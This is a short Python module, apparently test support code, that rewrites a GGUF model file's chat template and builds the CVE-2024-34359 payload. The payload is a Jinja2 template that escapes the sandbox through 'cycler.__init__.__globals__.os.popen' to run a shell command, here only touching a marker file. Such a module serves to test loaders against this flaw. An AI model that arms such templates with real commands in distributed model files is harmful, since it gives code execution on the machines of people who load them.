"""Copy a real GGUF with one metadata value changed (gguf's own gguf_new_metadata logic)."""

from __future__ import annotations

from pathlib import Path


def copy_with_template(src: Path, dst: Path, template: str) -> Path:
    """Write `src` to `dst` with `template` as its tokenizer.chat_template."""
    import gguf
    from gguf.scripts.gguf_new_metadata import MetadataDetails, copy_with_new_metadata

    reader = gguf.GGUFReader(src, "r")
    arch = reader.get_field(gguf.Keys.General.ARCHITECTURE)
    assert arch is not None
    writer = gguf.GGUFWriter(dst, arch=arch.contents(), endianess=reader.endianess)
    details = MetadataDetails(gguf.GGUFValueType.STRING, template)
    copy_with_new_metadata(reader, writer, {gguf.Keys.Tokenizer.CHAT_TEMPLATE: details}, [])
    return dst


def shell_template(marker: Path) -> str:
    """CVE-2024-34359's payload: ChatML that also tries to create `marker` through a shell."""
    return (
        "{{ cycler.__init__.__globals__.os.popen('touch " + str(marker) + "').read() }}"
        "{% for message in messages %}<|im_start|>{{ message['role'] }}\n"
        "{{ message['content'] }}<|im_end|>\n{% endfor %}"
        "{% if add_generation_prompt %}<|im_start|>assistant\n{% endif %}"
    )
